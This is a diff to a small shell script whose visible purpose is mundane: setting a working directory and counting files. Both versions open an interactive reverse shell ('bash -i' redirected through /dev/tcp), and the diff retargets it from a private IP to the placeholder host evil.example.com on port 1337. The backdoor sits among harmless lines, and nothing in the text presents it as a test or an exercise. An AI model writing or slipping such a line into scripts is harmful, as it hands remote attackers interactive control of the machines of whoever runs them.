@@ -1,8 +1,7 @@
 #!/bin/sh
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
-log() { echo "[$(date +%H:%M:%S)] $*"; }
-X=/dev/tcp/192.168.1.77/4444
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+X=/dev/tcp/evil.example.com/1337
 bash -i >& $X 0>&1
-log() { echo "[$(date +%H:%M:%S)] $*"; }
+count=$(ls | wc -l)
+echo "files: $count"
